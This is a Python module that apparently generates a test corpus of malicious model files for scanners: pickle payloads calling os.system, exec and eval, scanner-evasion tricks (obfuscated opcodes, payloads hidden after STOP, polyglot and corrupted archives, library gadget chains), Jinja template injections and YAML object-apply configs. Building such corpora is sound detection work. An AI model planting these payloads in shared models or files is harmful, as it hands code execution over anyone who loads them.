"""Files that would run code, read or write files, or mislead, in whoever loads them."""

import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import struct
import subprocess
import tarfile
import zipfile
import zlib

import numpy
from onnx import helper

from assemble import (
    BUILD, CANARY, DUP, EMPTY_DICT, EMPTY_TUPLE, EVAL, EXEC, MARK, MEMOIZE, NEWOBJ, NEWOBJ_EX, NONE,
    POP, POP_MARK, REDUCE, SHELL, STACK_GLOBAL, STOP, blob, byte, call, frame, get, glob, list_of,
    proto, put as memo, short, stack_global, text, tuple_of)

from . import Shelf, twins
from .gadgets import GHSA, UNLISTED

EXEC_4 = call(stack_global("builtins", "exec"), text(EXEC))
EXEC_2 = call(glob("__builtin__", "exec"), text(EXEC))
EVIL = proto(4) + EXEC_4 + STOP
EVIL_2 = proto(2) + EXEC_2 + STOP


def direct_call(shelf):
    family = "direct_call"
    for module in ("os", "posix", "nt"):
        for name in ("system", "popen", "execv", "spawnl"):
            shelf.add(family, f"{module}_{name}.pkl",
                      proto(2) + call(glob(module, name), text(SHELL)) + STOP)
    for name in ("Popen", "call", "run", "check_output", "getoutput"):
        shelf.add(family, f"subprocess_{name}.pkl",
                  proto(4) + call(stack_global("subprocess", name), text(SHELL)) + STOP)
    for name in ("eval", "exec", "compile", "__import__", "open", "getattr", "input"):
        shelf.add(family, f"builtins_{name}.pkl",
                  proto(3) + call(glob("builtins", name), text(EVAL)) + STOP)
    for module, name in (("pty", "spawn"), ("socket", "socket"), ("shutil", "rmtree"),
                         ("io", "open"), ("webbrowser", "open"), ("runpy", "run_path")):
        shelf.add(family, f"{module}_{name}.bin",
                  proto(4) + call(stack_global(module, name), text(CANARY)) + STOP)


def opcode_variant(shelf):
    family = "opcode_variant"
    add = lambda name, data: shelf.add(family, name + ".pkl", data)  # noqa: E731
    add("inst", b"(V" + SHELL.encode() + b"\nios\nsystem\n.")
    add("obj", proto(2) + MARK + glob("os", "system") + text(SHELL) + b"o" + STOP)
    lazy = glob("builtins", "map") + tuple_of(glob("builtins", "exec"), list_of(text(EXEC))) + NEWOBJ
    add("newobj", proto(3) + glob("builtins", "bytes") + tuple_of(lazy) + NEWOBJ + STOP)
    lazy = (stack_global("builtins", "map") + tuple_of(
        stack_global("builtins", "exec"), list_of(short(EXEC))) + EMPTY_DICT + NEWOBJ_EX)
    add("newobj_ex", proto(4) + stack_global("builtins", "tuple") + tuple_of(lazy) + EMPTY_DICT
        + NEWOBJ_EX + STOP)
    add("build_setstate", proto(2) + glob("argparse", "Namespace") + EMPTY_TUPLE + NEWOBJ
        + EMPTY_DICT + text("__setstate__") + glob("__builtin__", "exec") + b"s" + BUILD
        + text(EXEC) + BUILD + STOP)
    add("pop", proto(2) + EXEC_2 + POP + EMPTY_DICT + STOP)
    add("pop_mark", proto(2) + MARK + EXEC_2 + POP_MARK + EMPTY_DICT + STOP)
    add("frames", proto(4) + frame(short("builtins") + short("exec")) + frame(
        STACK_GLOBAL + tuple_of(short(EXEC))) + frame(REDUCE + STOP))
    add("in_dict_value", proto(2) + EMPTY_DICT + text("weight") + EXEC_2 + b"s" + STOP)
    add("in_dict_key", proto(2) + EMPTY_DICT + EXEC_2 + NONE + b"s" + STOP)


def stack_global_trick(shelf):
    family = "stack_global_trick"
    add = lambda name, data: shelf.add(family, name + ".pkl", data)  # noqa: E731
    tail = tuple_of(short(EXEC)) + REDUCE + STOP
    add("memo", proto(4) + short("exec") + MEMOIZE + POP + short("builtins") + get(0)
        + STACK_GLOBAL + tail)
    add("overwritten", proto(4) + short("print") + memo(3) + POP + short("exec") + memo(3) + POP
        + short("builtins") + get(3) + STACK_GLOBAL + tail)
    joined = call(stack_global("builtins", "str.join"), short(""), list_of(short("ex"), short("ec")))
    add("joined", proto(4) + short("builtins") + joined + STACK_GLOBAL + tail)
    decoded = call(stack_global("codecs", "decode"), short("rkrp"), short("rot13"))
    add("rot13", proto(4) + short("builtins") + decoded + STACK_GLOBAL + tail)
    add("dup", proto(4) + short("builtins") + DUP + POP + short("exec") + DUP + POP + STACK_GLOBAL
        + DUP + POP + tail)
    add("string_opcodes", b"S'os'\nS'system'\n" + STACK_GLOBAL + b"S'" + CANARY.encode() + b"'\n\x85R.")


def dotted_name(shelf):
    for number, (module, name) in enumerate((
            ("torch.serialization", "os.system"), ("collections", "_sys.modules"),
            ("pathlib", "os.system"), ("torch", "hub.os.system"), ("numpy", "os.system"),
            ("collections", "OrderedDict.__init__.__class__.__base__.__subclasses__"),
            ("torch._utils", "sys.modules"), ("argparse", "_os.system"))):
        shelf.add("dotted_name", f"{number}.pkl",
                  proto(4) + call(stack_global(module, name), short(SHELL)) + STOP)


def ext_registry(shelf):
    family = "ext_registry"
    add = call(glob("copyreg", "add_extension"), text("builtins"), text("exec"), byte(66))
    shelf.add(family, "ext1.pkl", proto(3) + add + POP + b"\x82\x42" + tuple_of(text(EXEC)) + REDUCE
              + STOP)
    inverted = (glob("copyreg", "_inverted_registry") + byte(67) + tuple_of(
        text("builtins"), text("exec")) + b"s" + POP)
    shelf.add(family, "ext2.pkl", proto(3) + inverted + b"\x83\x43\0" + tuple_of(text(EXEC))
              + REDUCE + STOP)
    shelf.add(family, "ext4.pkl", proto(2) + b"\x84\1\0\0\1" + EMPTY_TUPLE + REDUCE + STOP)


def torch_zip(body, entries=(), name="archive"):
    """A checkpoint of a pickle, laid out as torch does."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr(f"{name}/data.pkl", body)
        archive.writestr(f"{name}/version", "3\n")
        for entry, data in entries:
            archive.writestr(entry, data)
    return buffer.getvalue()


def persistent_id(shelf):
    family = "persistent_id"
    pid = lambda *items: tuple_of(*items) + b"Q"  # noqa: E731
    shelf.add(family, "call.pt", torch_zip(proto(2) + pid(
        text("storage"), EXEC_2, text("0"), text("cpu"), byte(1)) + STOP))
    shelf.add(family, "callable.pt", torch_zip(proto(2) + pid(
        text("storage"), glob("os", "system"), text("0"), text("cpu"), byte(1)) + STOP))
    shelf.add(family, "key.pt", torch_zip(proto(2) + pid(
        text("storage"), glob("torch", "FloatStorage"), EXEC_2, text("cpu"), byte(1)) + STOP))


def nested_pickle(shelf):
    family = "nested_pickle"
    for number, (module, name) in enumerate((
            ("pickle", "loads"), ("_pickle", "loads"), ("cPickle", "loads"), ("dill", "loads"),
            ("cloudpickle", "loads"), ("joblib", "load"), ("torch", "load"),
            ("pandas", "read_pickle"), ("numpy", "load"), ("shelve", "open"),
            ("multiprocessing.reduction", "ForkingPickler.loads"), ("jsonpickle", "decode"))):
        shelf.add(family, f"{number}_{module}.pkl",
                  proto(3) + call(glob(module, name), blob(EVIL_2)) + STOP)
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2) + pickle.dumps({}, 2)
    shelf.add(family, "load_from_bytes.pkl", proto(3) + call(
        glob("torch.storage", "_load_from_bytes"), blob(magic + EVIL_2 + pickle.dumps([], 2))) + STOP)
    shelf.add(family, "load_from_bytes_zip.pkl", proto(3) + call(
        glob("torch.storage", "_load_from_bytes"), blob(torch_zip(EVIL_2))) + STOP)
    code = marshal.dumps(compile(EXEC, "payload", "exec"))
    function = call(glob("types", "FunctionType"), call(glob("marshal", "loads"), blob(code)), EMPTY_DICT)
    shelf.add(family, "marshal.pkl", proto(3) + function + EMPTY_TUPLE + REDUCE + STOP)
    shelf.add(family, "bytes_only.pkl", pickle.dumps({"cache": EVIL}, 4))


def after_stop(shelf):
    clean = pickle.dumps({"a": 1}, 2)
    shelf.add("after_stop", "second.pkl", clean + EVIL)
    shelf.add("after_stop", "third.pkl", clean + clean + EVIL)
    shelf.add("after_stop", "zeros.pkl", clean + bytes(64) + EVIL)
    shelf.add("after_stop", "junk.pkl", clean + b"\xff\xfe junk" * 9 + EVIL)
    shelf.add("after_stop", "many.pkl", clean * 12_000 + EVIL)
    for number, first in enumerate((b"N.", b").", b"I1\n.", b"V\n.")):
        shelf.add("after_stop", f"text{number}.pkl", first * 9 + b"cos\nsystem\n(V" + SHELL.encode() + b"\ntR.")


def legacy_slot(shelf):
    slots = [pickle.dumps(value, 2) for value in (0x1950A86A20F9469CFC6C, 1001, {}, {}, [])]
    for number in range(1, 5):
        parts = list(slots)
        parts[number] = EVIL_2
        shelf.add("legacy_slot", f"slot{number}.pt", b"".join(parts))
    magic = proto(2) + call(glob("__builtin__", "eval"), text("119547037146038801333356")) + STOP
    shelf.add("legacy_slot", "magic_by_eval.pt", magic + b"".join(slots[1:]))
    shelf.add("legacy_slot", "magic_after.pt", proto(2) + EXEC_2 + POP + slots[0][2:]
              + b"".join(slots[1:]))


def broken_after_payload(shelf):
    for name, tail in (("truncated", b""), ("bad_opcode", b"\xff."), ("bad_utf8", b"X\2\0\0\0\xff\xfe."),
                       ("huge", b"\x8d" + struct.pack("<Q", 1 << 62)), ("pop_empty", POP * 9),
                       ("bad_memo", get(99)), ("bad_frame", b"\x95" + struct.pack("<Q", 1 << 40)),
                       ("bad_long", b"\x8b\xff\xff\xff\xff")):
        shelf.add("broken_after_payload", f"{name}.pkl", proto(4) + EXEC_4 + tail)
        shelf.add("broken_after_payload", f"{name}.pt", torch_zip(proto(4) + EXEC_4 + tail))


def parser_differential(shelf):
    two_formats(shelf)
    for number, prefix in enumerate((
            b"I0x10\n", b"L0x10L\n", b"I0o17\n", b"I 12 \n", b"L1_000L\n", b"I5\0junk\n",
            b"F1.5\0junk\n", b"S'\xe9'\n", b"I0b1\n")):
        shelf.add("parser_differential", f"{number}.pkl", prefix + POP + EXEC_4 + STOP)
    # The unpickler written in Python, of which joblib makes its own, calls float().
    for number, text in enumerate((b"1_0", b" 1", b"1e999")):
        code = b"F" + text + b"\n0cos\nsystem\n(V" + SHELL.encode() + b"\ntR."
        shelf.add("parser_differential", f"float{number}.joblib", code)


def protocol0_text(shelf):
    family = "protocol0_text"
    shelf.add(family, "os.pkl", b"cos\nsystem\n(V" + SHELL.encode() + b"\ntR.")
    shelf.add(family, "notes.txt", b"cos\nsystem\n(V" + SHELL.encode() + b"\ntR.")
    shelf.add(family, "escapes.pkl", b"Vbuilt\\u0069ns\nVex\\u0065c\n" + STACK_GLOBAL + b"(V"
              + EVAL.encode() + b"\ntR.")
    for module, name in (("commands", "getoutput"), ("urllib2", "urlopen"), ("__builtin__", "eval"),
                         ("copy_reg", "add_extension"), ("posix", "system"), ("cPickle", "loads")):
        shelf.add(family, f"{module}.pkl", f"c{module}\n{name}\n(V{CANARY}\ntR.".encode())


def ghsa_gadget(shelf):
    for number, (module, name) in enumerate(GHSA):
        shelf.add("ghsa_gadget", f"{number:02}_{module}.pkl",
                  proto(4) + call(stack_global(module, name), text(EXEC)) + STOP)


def unlisted_gadget(shelf):
    for number, (module, name) in enumerate(UNLISTED):
        shelf.add("unlisted_gadget", f"{number:02}_{module}.pkl",
                  proto(4) + call(stack_global(module, name), text(EXEC)) + STOP)
    # Classes by a module that imports them: their `__setstate__` loads the bytes that a call made.
    for kind in ("Iter", "Map"):
        for made in ("bytes", "bytearray"):
            data = call(glob("builtins", made), list_of(*map(byte, EVIL)))
            wrapped = glob("torch.utils.data.dataloader", f"_{kind}DataPipeSerializationWrapper") + EMPTY_TUPLE + NEWOBJ
            shelf.add("unlisted_gadget", f"imported_{kind}_{made}.pkl".lower(),
                      proto(4) + wrapped + tuple_of(data, NONE) + BUILD + STOP)


def indirection(shelf):
    family = "indirection"
    module = call(glob("importlib", "import_module"), text("os"))
    system = call(glob("builtins", "getattr"), module, text("system"))
    add = lambda name, body: shelf.add(family, name + ".pkl", proto(3) + body + STOP)  # noqa: E731
    add("getattr", system + tuple_of(text(SHELL)) + REDUCE)
    partial = call(glob("functools", "partial"), glob("builtins", "exec"), text(EXEC))
    add("partial", partial + EMPTY_TUPLE + REDUCE)
    add("map", call(glob("builtins", "list"), call(
        glob("builtins", "map"), glob("builtins", "exec"), list_of(text(EXEC)))))
    add("reduce", call(glob("functools", "reduce"), glob("builtins", "getattr"), list_of(
        module, text("system"))))
    add("starmap", call(glob("builtins", "list"), call(
        glob("itertools", "starmap"), glob("builtins", "exec"), list_of(tuple_of(text(EXEC))))))
    add("methodcaller", call(glob("operator", "methodcaller"), text("system"), text(SHELL))
        + tuple_of(module) + REDUCE)
    add("attrgetter", call(glob("operator", "attrgetter"), text("system")) + tuple_of(module) + REDUCE)
    add("rebuild", call(glob("torch._tensor", "_rebuild_from_type_v2"), glob("builtins", "exec"),
                        glob("torch", "Tensor"), tuple_of(text(EXEC)), EMPTY_DICT))
    add("del", call(glob("builtins", "type"), text("X"), EMPTY_TUPLE,
                    EMPTY_DICT + text("__del__") + glob("builtins", "exec") + b"s"))
    add("defaultdict", call(glob("collections", "defaultdict"), partial))
    awake(add)


def items(**pairs):
    """A dictionary of names."""
    return EMPTY_DICT + b"".join(text(name) + value + b"s" for name, value in pairs.items())


def awake(add):
    """Methods of objects that a plain function goes through, with states of the file's own: they import what a mapping
    names, take its attributes, and call one of them."""
    lazy = glob("transformers.models.auto.configuration_auto", "_LazyConfigMapping") + EMPTY_TUPLE + NEWOBJ

    def fetched(key, name, modules):
        state = items(_mapping=items(**{key: text(name)}), _extra_content=EMPTY_DICT, _modules=modules)
        return call(glob("builtins", "dict"), lazy + state + BUILD)

    space = glob("argparse", "Namespace") + EMPTY_TUPLE + NEWOBJ + fetched(".configuration_utils", "os", EMPTY_DICT) + BUILD
    found = fetched("collate_fn", ".configuration_utils", items(collate_fn=space))
    found = fetched("collate_fn", "system", found)
    false, zero = b"\x89", byte(0)
    plain = items(
        dataset=list_of(text(SHELL)), num_workers=zero, prefetch_factor=NONE, pin_memory=false, pin_memory_device=text(""),
        timeout=zero, worker_init_fn=NONE, _DataLoader__multiprocessing_context=NONE, _dataset_kind=zero, batch_size=NONE,
        drop_last=false, sampler=list_of(zero), batch_sampler=NONE, generator=NONE, persistent_workers=false, in_order=b"\x88",
        _DataLoader__initialized=b"\x88", _IterableDataset_len_called=NONE, _iterator=NONE)
    loader = glob("torch.utils.data.dataloader", "DataLoader") + EMPTY_TUPLE + NEWOBJ
    add("awake", call(glob("builtins", "list"), loader + plain + BUILD + found + BUILD))
    # What gives back, or stands for, what it is handed: the state fills that.
    for module, name in (("types", "GenericAlias"), ("torch.jit._pickle", "restore_type_tag"),
                         ("torch.jit._pickle", "build_intlist")):
        handed = (b"h\xc8",) if name == "build_intlist" else (b"h\xc8", EMPTY_TUPLE)
        filled = call(glob(module, name), *handed) + plain + BUILD + found + BUILD
        add(f"alias_{name}", loader + b"q\xc8" + POP + filled + POP + call(glob("builtins", "list"), b"h\xc8"))
    inner = proto(2) + loader + plain + BUILD + found + BUILD + STOP
    add("awake_nested", call(glob("builtins", "list"), call(
        glob("torch.storage", "_load_from_bytes"), blob(torch_zip(inner)))))
    linear = glob("torch.nn.modules.linear", "Linear") + EMPTY_TUPLE + NEWOBJ
    mapping = lazy + items(_mapping=items(**{".configuration_utils": text("os")}), _extra_content=EMPTY_DICT,
                           _modules=EMPTY_DICT) + BUILD
    add("awake_state", linear + mapping + BUILD)
    add("awake_base", call(glob("copyreg", "_reconstructor"), glob("collections", "OrderedDict"),
                           glob("builtins", "dict"), mapping))
    opened = call(glob("functools", "partial"), glob("sentencepiece", "SentencePieceProcessor"), text("/etc/passwd"))
    missing = call(glob("collections", "defaultdict"), opened)
    add("awake_partial", call(glob("builtins", "dict"), call(
        glob("collections", "ChainMap"), missing, items(a=zero))))
    add("awake_generator", call(glob("numpy.random._pickle", "__generator_ctor"), text("/etc/passwd"),
                                glob("sentencepiece", "SentencePieceProcessor")))


def state_poisoning(shelf):
    family = "state_poisoning"
    shelf.add(family, "sys_modules.pkl", proto(3) + glob("sys", "modules") + text("x") + NONE + b"s" + STOP)
    shelf.add(family, "safe_globals.pkl", proto(3) + call(
        glob("torch.serialization", "add_safe_globals"), list_of(glob("os", "system"))) + STOP)
    slots = tuple_of(NONE, EMPTY_DICT + text("forward") + glob("os", "system") + b"s")
    shelf.add(family, "class.pkl", proto(3) + glob("torch.nn.modules.linear", "Linear") + slots
              + BUILD + STOP)
    shelf.add(family, "module.pkl", proto(3) + glob("torch", "nn") + slots + BUILD + STOP)
    shelf.add(family, "setattr.pkl", proto(3) + call(
        glob("builtins", "setattr"), glob("torch", "Tensor"), text("add"), glob("os", "system")) + STOP)
    # Methods of their own that `__setstate__` calls, with what stands beside them; text that it runs.
    planted = items(_build_f=glob("tokenizers.models", "BPE"), X_thresholds_=text(CANARY), y_thresholds_=text(CANARY))
    shelf.add(family, "planted.pkl", proto(3) + glob("sklearn.isotonic", "IsotonicRegression") + EMPTY_TUPLE + NEWOBJ
              + planted + BUILD + STOP)
    shelf.add(family, "template.pkl", proto(3) + glob("scipy.stats._continuous_distns", "norm_gen") + EMPTY_TUPLE + NEWOBJ
              + items(_parse_arg_template=text(EXEC)) + BUILD + STOP)


def zip_trick(shelf):
    family = "zip_trick"
    plain = torch_zip(EVIL)
    for extension in ("pt", "pth", "zip", "txt", "png", "model", "safetensors", "onnx", "gguf"):
        shelf.add(family, f"renamed.{extension}", plain)
    edit = bytearray(plain)
    edit[14:18] = b"\1\2\3\4"
    shelf.add(family, "local_crc.pt", bytes(edit))
    for flag in (1, 0x20, 0x40):
        edit = bytearray(plain)
        edit[6] |= flag
        edit[plain.index(b"PK\1\2") + 8] |= flag
        shelf.add(family, f"flag_{flag}.pt", bytes(edit))
    edit = bytearray(plain)
    edit[30:31] = b"X"
    shelf.add(family, "local_name.pt", bytes(edit))
    shelf.add(family, "prefix.pt", b"\x7fELF" + bytes(60) + plain)
    shelf.add(family, "prefix_text.pt", b"#!/bin/sh\nexit\n" + plain)
    clean = pickle.dumps({}, 2)
    shelf.add(family, "extra_entry.pt", torch_zip(clean, [("archive/extra/x.dat", EVIL)]))
    shelf.add(family, "upper_case.pt", torch_zip(clean, [("archive/DATA.PKL", EVIL)]))
    shelf.add(family, "duplicate.pt", torch_zip(clean, [("archive/data.pkl", EVIL)]))
    shelf.add(family, "nested.pt", torch_zip(clean, [("archive/inner.zip", plain)]))
    shelf.add(family, "nested_twice.zip", torch_zip(clean, [("a.zip", torch_zip(clean, [("b.zip", plain)]))]))
    deflated = io.BytesIO()
    with zipfile.ZipFile(deflated, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("archive/data.pkl", EVIL)
    shelf.add(family, "deflated.pt", deflated.getvalue())
    commented = io.BytesIO(plain)
    with zipfile.ZipFile(commented, "a") as archive:
        archive.comment = EVIL
    shelf.add(family, "comment.pt", torch_zip(clean) and commented.getvalue())
    shelf.add(family, "two_ends.pt", plain + torch_zip(clean))


def archive_7z(shelf):
    # Signature, version, and a header that points at nothing: what it holds, nobody can tell.
    head = b"7z\xbc\xaf\x27\x1c\0\4" + bytes(24)
    shelf.add("archive_7z", "model.pt", head + EVIL)
    shelf.add("archive_7z", "model.bin", head + bytes(512))


def compressed_pickle(shelf):
    family = "compressed_pickle"
    for name, packed in (("a.pkl.gz", gzip.compress(EVIL)), ("b.joblib", zlib.compress(EVIL)),
                         ("c.pkl.bz2", bz2.compress(EVIL)), ("d.pkl.xz", lzma.compress(EVIL)),
                         ("e.joblib", lzma.compress(EVIL, format=lzma.FORMAT_ALONE)),
                         ("f.pkl", gzip.compress(bz2.compress(EVIL))),
                         ("g.pt", gzip.compress(torch_zip(EVIL))),
                         ("h.z", b"ZF" + hex(len(EVIL)).ljust(19).encode() + zlib.compress(EVIL)),
                         ("i.pkl", b"\x04\x22\x4d\x18\x64\x40\xa7" + EVIL),
                         ("j.pkl", b"\x28\xb5\x2f\xfd\x04\x58" + EVIL)):
        shelf.add(family, name, packed)


def tar_of(members, mode="w"):
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode) as archive:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def tar_container(shelf):
    family = "tar_container"
    for member in ("pickle", "storages", "tensors"):
        parts = {name: pickle.dumps(0, 2) for name in ("storages", "tensors", "pickle")}
        parts[member] = EVIL_2
        shelf.add(family, f"{member}.pt", tar_of([("sys_info", pickle.dumps({}, 2)), *parts.items()]))
    shelf.add(family, "any.tar", tar_of([("model/weights.pkl", EVIL)]))
    shelf.add(family, "any.tar.gz", tar_of([("model/weights.pkl", EVIL)], "w:gz"))
    shelf.add(family, "any.tar.xz", tar_of([("model/pytorch_model.bin", torch_zip(EVIL))], "w:xz"))


def tar_block(start, size, magic):
    """A header of a tar whose member's name begins with the given bytes, and its checksum."""
    block = bytearray(start.ljust(512, b"\0"))
    block[124:136] = b"%011o\0" % size
    block[156:157] = b"0"
    block[257:265] = magic.ljust(8, b"\0")
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block)


def two_formats(shelf):
    """What is a file of one format, and a pickle to whoever unpickles it."""
    family = "parser_differential"
    shelf.add(family, "old.tar", tar_block(b"weights.pkl", len(EVIL), b"") + EVIL.ljust(1536, b"\0"))
    # The first opcode takes the header for a string, up to the block's end or that of the name.
    for name, start in (("named", proto(2) + b"X" + struct.pack("<I", 505) + b"a"),
                        ("plain", b"\x8c" + bytes([98]) + b"weights".ljust(98, b"\0"))):
        rest = b"T" + struct.pack("<I", 512 - 105) if name == "plain" else b""
        for magic in (b"", b"ustar\x0000"):
            head = tar_block(start + rest, 512, magic)
            body = POP + EXEC_2 + STOP
            shelf.add(family, f"{name}{len(magic)}.tar", head + body.ljust(1536, b"\0"))
    model = helper.make_model(helper.make_graph(
        [helper.make_node("Identity", ["x"], ["y"])], "g",
        [helper.make_tensor_value_info("x", 1, [1])], [helper.make_tensor_value_info("y", 1, [1])]))
    # A field nobody knows is an integer to the pickle machine, and the model what follows `STOP`.
    field = b"aaa" + POP + EXEC_2 + STOP
    shelf.add(family, "field.onnx", b"J" + bytes([len(field)]) + field + model.SerializeToString())
    # An archive is found from a file's end.
    archive = torch_zip(EVIL)
    value = struct.pack("<Q", 1) + b"k" + struct.pack("<IQ", 8, len(archive)) + archive
    empty = b"GGUF" + struct.pack("<IQQ", 3, 0, 0)
    for name, start in (("value.gguf", b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + value[:-len(archive)]), ("tail.gguf", empty),
                        ("a.json", b'{"a": 1}'), ("rar.pt", b"Rar!\x1a\x07\0"), ("gz.pt", b"\x1f\x8b\x08" + bytes(7))):
        shelf.add(family, f"zip_behind_{name}", start + archive)
    for name in ("settings.yaml", "config.json", "notes.jinja"):
        code = b"cos\nsystem\n(V" + SHELL.encode() + b"\ntR"
        shelf.add(family, name, code + b" a: 1\n")


def npy_header(version=(1, 0), descr="|O"):
    header = f"{{'descr': {descr!r}, 'fortran_order': False, 'shape': (1,), }}"
    width = 2 if version == (1, 0) else 4
    total = 8 + width + len(header) + 1
    header += " " * (-total % 64) + "\n"
    return (b"\x93NUMPY" + bytes(version) + len(header).to_bytes(width, "little") + header.encode())


def numpy_object(shelf):
    family = "numpy_object"
    for version in ((1, 0), (2, 0), (3, 0)):
        shelf.add(family, f"v{version[0]}.npy", npy_header(version) + EVIL)
    shelf.add(family, "structured.npy", npy_header(descr=[("a", "<f4"), ("b", "O")]) + EVIL)
    shelf.add(family, "renamed.bin", npy_header() + EVIL)
    for name, mode in (("a.npz", zipfile.ZIP_STORED), ("b.npz", zipfile.ZIP_DEFLATED)):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", mode) as archive:
            archive.writestr("x.npy", npy_header(descr="<f4") + bytes(4))
            archive.writestr("y.npy", npy_header() + EVIL)
        shelf.add(family, name, buffer.getvalue())


def joblib_like(shelf):
    # An array's raw bytes stand in the stream, where an unpickler that is not joblib's breaks off.
    wrapper = (proto(4) + stack_global("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE
               + NEWOBJ + EMPTY_DICT + BUILD)
    shelf.add("joblib_like", "before.joblib", proto(4) + EXEC_4 + POP + wrapper[2:] + bytes(64) + STOP)
    shelf.add("joblib_like", "after.joblib", wrapper + bytes(range(64)) + EXEC_4 + STOP)
    shelf.add("joblib_like", "padded.joblib", wrapper + b"\x10" + b"\xff" * 16 + bytes(64) + EXEC_4 + STOP)


def dill_cloudpickle(shelf):
    for module in ("dill._dill", "cloudpickle.cloudpickle", "ray.cloudpickle.cloudpickle",
                   "joblib.externals.cloudpickle.cloudpickle"):
        for name in ("_create_function", "_make_function", "subimport", "_create_code"):
            shelf.add("dill_cloudpickle", f"{module}.{name}.pkl",
                      proto(4) + call(stack_global(module, name), text("os")) + STOP)


def torchscript_code(shelf):
    family = "torchscript_code"
    for name, line in (("save", "torch.save(x, 'CANARY')"), ("from_file", "ops.aten.from_file('CANARY')"),
                       ("spaced", "torch . save(x, 'CANARY')")):
        code = f"class M(Module):\n  def forward(self, x: Tensor) -> Tensor:\n    y = {line}\n    return x\n"
        shelf.add(family, f"{name}.pt", torch_zip(
            proto(2) + EMPTY_DICT + STOP,
            [("archive/code/__torch__.py", code.replace("CANARY", CANARY)),
             ("archive/constants.pkl", proto(2) + EMPTY_TUPLE + STOP)]))


def template(shelf):
    """Beyond pickles: chat templates."""
    for number, evil in enumerate((
            "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ messages|attr('__class__') }}",
            "{{ messages['\\x5f\\x5fclass\\x5f\\x5f'] }}", "{{ messages['__cla' ~ 'ss__'] }}",
            "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
            "{% set _ = messages.append({'role': '~~class~~'.translate({126: 95})}) %}"
            "{% for m in messages %}{{ ''[m['role']] }}{% endfor %}",
            "{% set _ = messages[0].update(content='5f5f636c6173735f5f') %}"
            "{% for m in messages %}{{ ''[m.content.encode().fromhex(m.content).decode()] }}{% endfor %}")):
        shelf.add("template", f"{number}.jinja", evil.encode())
        shelf.add("template", f"{number}/tokenizer_config.json", json.dumps(
            {"chat_template": [{"name": "default", "template": "{{ x }}"},
                               {"name": "tool_use", "template": evil}]}).encode())
        import gguf
        path = shelf.path("template", f"{number}.gguf")
        writer = gguf.GGUFWriter(path, "llama")
        writer.add_chat_template(evil)
        writer.add_tensor("w", numpy.zeros(8, "float32"))
        writer.write_header_to_file()
        writer.write_kv_data_to_file()
        writer.write_tensors_to_file()
        writer.close()


# h5py is in the environment of the other scanners only.
HDF5 = """
import h5py, numpy, sys
with h5py.File(sys.argv[1], "w", libver=sys.argv[2]) as file:
    config = sys.stdin.read()
    file.attrs["model_config"] = config if sys.argv[2] == "earliest" else numpy.bytes_(config)
    file.create_group("model_weights").create_dataset("w", data=numpy.zeros(4))
"""


def keras_config(layer):
    return json.dumps({"module": "keras", "class_name": "Sequential", "config": {"layers": [layer]}})


def keras(shelf):
    bytecode = base64.b64encode(marshal.dumps(compile(EXEC, "payload", "exec"))).decode()
    layers = {
        "lambda": {"class_name": "Lambda", "config": {"function": [bytecode, None, None]}},
        "lambda3": {"module": "keras.layers", "class_name": "Lambda", "config": {"function": {
            "class_name": "__lambda__", "config": {"code": bytecode}}}},
        "function": {"module": "os", "class_name": "function", "config": "system"},
        "unsafe": {"module": "keras.config", "class_name": "function",
                   "config": "enable_unsafe_deserialization"},
        "get_file": {"module": "keras.utils", "class_name": "function", "config": "get_file"},
        "tfsm": {"module": "keras.layers", "class_name": "TFSMLayer", "config": {"filepath": "/tmp/x"}},
    }
    for name, layer in layers.items():
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("metadata.json", "{}")
            archive.writestr("config.json", keras_config(layer))
        shelf.add("keras", f"{name}.keras", buffer.getvalue())
        python = os.environ.get("WEIGHTBRIDGE_SCANNERS")
        for layout in ("earliest", "latest") if python else ():
            path = shelf.path("keras", f"{name}_{layout}.h5")
            subprocess.run([python, "-c", HDF5, path, layout], input=keras_config(layer), text=True,
                           check=True)


def settings(shelf):
    """Configurations and code that a loader runs."""
    for number, data in enumerate((
            {"_target_": "os.system", "command": SHELL}, {"auto_mapping": {"parent_library": "os"}},
            [{"idx": 0, "path": "", "type": "subprocess.Popen"}])):
        shelf.add("settings", f"{number}.json", json.dumps(data).encode())
    shelf.add("settings", "pointed.yaml", b"_target_: ${y}\ny: os.system\n")
    shelf.add("settings", "pointed.json", json.dumps({"_target_": "${a.y}", "a": {"y": "os.system"}}).encode())
    shelf.add("settings", "a.yaml", b"a: !!python/object/apply:os.system ['" + CANARY.encode() + b"']\n")
    shelf.add("settings", "b.nemo", tar_of([("model_config.yaml", b"m:\n  _target_: os.system\n")]))
    shelf.add("settings", "modeling.py", b"import base64\nexec(base64.b64decode('cHJpbnQoKQ=='))\n")


def tensorflow(shelf):
    def field(number, body):
        assert len(body) < 128
        return bytes([number << 3 | 2, len(body)]) + body

    for op in (b"ReadFile", b"WriteFile", b"MatchingFiles"):
        node = field(1, b"n") + field(2, op)
        shelf.add("tensorflow", f"{op.decode()}/saved_model.pb",
                  b"\x08\x01" + field(2, field(2, field(1, node))))
        shelf.add("tensorflow", f"{op.decode()}/frozen.pb", field(1, node))


PICKLES = (direct_call, opcode_variant, stack_global_trick, dotted_name, ext_registry, persistent_id,
           nested_pickle, after_stop, legacy_slot, broken_after_payload, parser_differential,
           protocol0_text, ghsa_gadget, unlisted_gadget, indirection, state_poisoning, zip_trick,
           archive_7z, compressed_pickle, tar_container, numpy_object, joblib_like, dill_cloudpickle,
           torchscript_code)
OTHERS = (template, keras, settings, tensorflow)


def write(folder):
    shelf = Shelf(folder)
    for family in PICKLES + OTHERS:
        family(shelf)
    twins.malicious(shelf)
    return shelf.samples


